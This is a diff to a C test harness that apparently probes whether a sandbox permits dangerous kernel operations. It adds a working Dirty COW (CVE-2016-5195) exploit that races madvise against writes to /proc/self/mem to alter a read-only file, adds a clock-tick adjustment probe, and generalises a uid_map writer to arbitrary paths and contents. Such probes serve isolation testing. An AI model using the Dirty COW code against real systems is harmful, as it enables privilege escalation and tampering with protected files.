@@ -12,6 +12,7 @@
 #include <linux/sched.h>
 #include <linux/userfaultfd.h>
 #include <netinet/in.h>
+#include <pthread.h>
 #include <sched.h>
 #include <signal.h>
 #include <stddef.h>
@@ -264,6 +265,12 @@ static int clock_read(char** a) {
   memset(&t, 0, sizeof t);
   return adjtimex(&t) >= 0 ? got("reading it") : no();
 }
+static int clock_adjust(char** a) {
+  (void)a;
+  // Only who may set the clock learns that this length of a tick cannot be.
+  struct timex t = {.modes = ADJ_TICK, .tick = 0};
+  return reached(adjtimex(&t), EINVAL);
+}
 static int hostname(char** a) {
   return sethostname(a[0], strlen(a[0])) == 0 ? got("a new name") : no();
 }
@@ -383,6 +390,26 @@ static int dirty_pipe(char** a) {
   errno = EROFS;
   return before != after ? got("a page of the file") : no();
 }
+static void* forget_pages(void* page) {
+  for (int i = 0; i < 20000; ++i) madvise(page, 4096, MADV_DONTNEED);
+  return NULL;
+}
+// CVE-2016-5195: a private copy of a page is given up while its own process writes into it.
+static int dirty_cow(char** a) {
+  int file = open(a[0], O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
+  char before = 0, after = 0;
+  if (file < 0 || memory < 0 || pread(file, &before, 1, 0) != 1) return no();
+  char* page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
+  pthread_t other;
+  if (page == MAP_FAILED || pthread_create(&other, NULL, forget_pages, page) != 0) return no();
+  const char changed = (char)(before ^ 1);
+  int written = 0;
+  for (int i = 0; i < 20000; ++i) written += pwrite(memory, &changed, 1, (off_t)page) == 1;
+  pthread_join(other, NULL);
+  if (written == 0 || pread(file, &after, 1, 0) != 1) return no();
+  errno = EROFS;
+  return before != after ? got("a page of the file") : no();
+}
 // Takes all that there are, says how many and keeps them until there is something to read.
 static int inotify_hold(char** a) {
   (void)a;
@@ -398,9 +425,8 @@ static int oom_immune(char** a) {
   return fd >= 0 && write(fd, "-1000", 5) == 5 ? got("immunity") : no();
 }
 static int map_users(char** a) {
-  (void)a;
-  int fd = open("/proc/self/uid_map", O_WRONLY);
-  return fd >= 0 && write(fd, "0 0 1", 5) == 5 ? got("a map") : no();
+  int fd = open(a[0], O_WRONLY);
+  return fd >= 0 && write(fd, a[1], strlen(a[1])) > 0 ? got("a map") : no();
 }
 static int memfd_exec(char** a) {
   int from = open(a[0], O_RDONLY), to = memfd_create("x", 0);
@@ -518,6 +544,7 @@ static const struct {
     {"personality", personality_call},
     {"clock_settime", clock_set},
     {"adjtimex_read", clock_read},
+    {"adjtimex_set", clock_adjust},
     {"sethostname", hostname},
     {"set_mm", set_mm},
     {"become_root", become_root},
@@ -536,6 +563,7 @@ static const struct {
     {"inotify", inotify_all},
     {"inotify_hold", inotify_hold},
     {"dirty_pipe", dirty_pipe},
+    {"dirty_cow", dirty_cow},
     {"oom_immune", oom_immune},
     {"map_users", map_users},
     {"memfd_exec", memfd_exec},
